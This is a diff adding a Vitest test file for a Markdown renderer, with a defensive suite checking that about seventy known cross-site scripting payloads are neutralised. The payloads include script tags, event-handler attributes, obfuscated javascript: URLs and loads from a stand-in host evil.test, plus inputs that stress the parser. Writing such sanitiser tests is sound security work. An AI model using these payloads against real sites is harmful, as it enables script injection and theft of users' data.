@@ -1,0 +1,178 @@
+// @vitest-environment jsdom
+import { describe, expect, it, test } from "vitest";
+import { markdownWords, renderMarkdown } from "@/lib/markdown/rules";
+
+describe("Markdown is shown", () => {
+  it("with paragraphs, emphasis and lists", () => {
+    expect(renderMarkdown("Two **weeks** in *May*.\n\n- bed\n- studio")).toBe(
+      '<p dir="auto">Two <strong>weeks</strong> in <em>May</em>.</p>\n<ul>\n<li dir="auto">bed</li>\n<li dir="auto">studio</li>\n</ul>',
+    );
+  });
+
+  it("with headings below the page's own", () => {
+    expect(renderMarkdown("# One\n\n## Two\n\n###### Six").match(/<h\d/g)).toEqual([
+      "<h3",
+      "<h4",
+      "<h6",
+    ]);
+    expect(renderMarkdown("<h1>Raw</h1>")).toBe("Raw");
+  });
+
+  it("with links that search engines do not follow", () => {
+    expect(renderMarkdown("[Apply](https://example.org/?a=1&b=2)")).toBe(
+      '<p dir="auto"><a href="https://example.org/?a=1&amp;b=2" rel="nofollow ugc noopener">Apply</a></p>',
+    );
+    expect(renderMarkdown("<a href='https://x.test' target=_blank rel=follow>x</a>")).toBe(
+      '<p dir="auto"><a href="https://x.test" rel="nofollow ugc noopener">x</a></p>',
+    );
+    expect(renderMarkdown("mail@example.org")).toContain('href="mailto:mail@example.org"');
+  });
+
+  it("with tables", () => {
+    const html = renderMarkdown("| a | b |\n|---|---|\n| 1 | 2 |");
+    expect(html).toContain('<td dir="auto">2</td>');
+  });
+
+  it("without pictures, whose words stay", () => {
+    expect(renderMarkdown("![The <b>studio</b>](https://tracker.test/a.gif)")).toBe(
+      '<p dir="auto">The studio</p>',
+    );
+  });
+
+  it("counting lists from where the writer begins", () => {
+    expect(renderMarkdown("3. three")).toContain('<ol start="3">');
+  });
+});
+
+/** Ways in that others have found, in Markdown and in HTML. */
+const attacks = [
+  "<script>alert(1)</script>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
+  "<img src=x onerror=alert(1)>",
+  "<img/src='x'/onerror=alert(1)>",
+  '<img src="javascript:alert(1)">',
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<iframe src=javascript:alert(1)></iframe>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<object data=javascript:alert(1)></object>",
+  "<embed src=//evil.test/x.swf>",
+  "<form action=//evil.test><input name=a><button>x</button></form>",
+  "<base href=//evil.test/>",
+  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+  "<link rel=stylesheet href=//evil.test/x.css>",
+  "<style>@import '//evil.test/x.css'</style>",
+  "<p style='background:url(//evil.test/x)'>x</p>",
+  "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
+  "<details open ontoggle=alert(1)>x</details>",
+  "<video src=x onerror=alert(1)></video>",
+  "<audio src=//evil.test/x></audio>",
+  "<body onload=alert(1)>",
+  "<a href='javascript:alert(1)'>x</a>",
+  "<a href='JaVaScRiPt:alert(1)'>x</a>",
+  "<a href=' javascript:alert(1)'>x</a>",
+  "<a href='java\tscript:alert(1)'>x</a>",
+  "<a href='java\nscript:alert(1)'>x</a>",
+  "<a href='&#106;avascript:alert(1)'>x</a>",
+  "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
+  "<a href='javascript&colon;alert(1)'>x</a>",
+  "<a href='\u0001javascript:alert(1)'>x</a>",
+  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+  "<a href='vbscript:msgbox(1)'>x</a>",
+  "<a href='//evil.test'>x</a>",
+  "<a href='\\\\evil.test'>x</a>",
+  "<a href='file:///etc/passwd'>x</a>",
+  "<a href='blob:https://x.test/1'>x</a>",
+  "<a name=getElementById id=attributes class=x>x</a>",
+  "[x](javascript:alert(1))",
+  "[x](JAVASCRIPT:alert(1))",
+  "[x](javascript&#58;alert(1))",
+  "[x](<javascript:alert(1)>)",
+  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[x](https://x.test 'a\" onmouseover=\"alert(1)')",
+  '[x](https://x.test"onmouseover="alert(1))',
+  "[x]: javascript:alert(1)\n\n[x]",
+  "<javascript:alert(1)>",
+  "![x](javascript:alert(1))",
+  '![x" onerror="alert(1)](https://x.test/a.png)',
+  "![<script>alert(1)</script>](https://x.test/a.png)",
+  "`<script>alert(1)</script>`",
+  "```html\n<img src=x onerror=alert(1)>\n```",
+  '``` "><script>alert(1)</script>\nx\n```',
+  "# <img src=x onerror=alert(1)>",
+  "- <svg/onload=alert(1)>",
+  "> <script>alert(1)</script>",
+  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
+  "<!--><script>alert(1)</script>-->",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<textarea><img src=x onerror=alert(1)></textarea>",
+  "<title><img src=x onerror=alert(1)></title>",
+  "<template><script>alert(1)</script></template>",
+  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+  "<p dir='\"><script>alert(1)</script>'>x</p>",
+  "<ol start='\"><script>alert(1)</script>'><li>x</ol>",
+];
+
+/** What may stand in an answer: the parser is the browser's own. */
+const allowed: Record<string, readonly string[]> = { a: ["href", "rel"], ol: ["start"] };
+
+test.each(attacks)("%s does no harm", (attack) => {
+  const shown = new DOMParser().parseFromString(renderMarkdown(attack), "text/html");
+  for (const element of shown.body.querySelectorAll("*")) {
+    const tag = element.localName;
+    expect(tag).toMatch(
+      /^(?:p|h[3-6]|ul|ol|li|a|strong|em|del|code|pre|br|hr|blockquote|table|thead|tbody|tr|th|td)$/,
+    );
+    const names = element.getAttributeNames();
+    expect(names.filter((name) => !["dir", ...(allowed[tag] ?? [])].includes(name))).toEqual([]);
+    const href = element.getAttribute("href");
+    if (href !== null) {
+      expect(new URL(href, "https://here.test").protocol).toMatch(/^(?:https?|mailto):$/);
+      expect(new URL(href, "https://here.test").host).not.toBe("evil.test");
+    }
+  }
+  expect(shown.head.childElementCount).toBe(0);
+});
+
+const parts = [
+  "> ",
+  ">",
+  "<p>",
+  "<b><p>",
+  "- ",
+  "*",
+  "[",
+  "![",
+  "| a ",
+  "a_",
+  "<",
+  "&",
+  "\\",
+  "#",
+  "1. ",
+];
+test.each(parts)(
+  "a description of nothing but %j is shown like another",
+  { timeout: 20_000 },
+  (part) => {
+    expect(renderMarkdown(`${part.repeat(20_000 / part.length)} end`)).toContain("end");
+  },
+);
+
+test("a text is worked on once", () => {
+  const text = `${"- ".repeat(8_000)} once`;
+  const first = renderMarkdown(text);
+  const began = performance.now();
+  expect(renderMarkdown(text)).toBe(first);
+  expect(performance.now() - began).toBeLessThan(50);
+});
+
+test("the words alone, in one line", () => {
+  expect(markdownWords("# Stay\n\n**Two** weeks & [more](https://x.test) <b>now</b>")).toBe(
+    "Stay Two weeks & more now",
+  );
+});
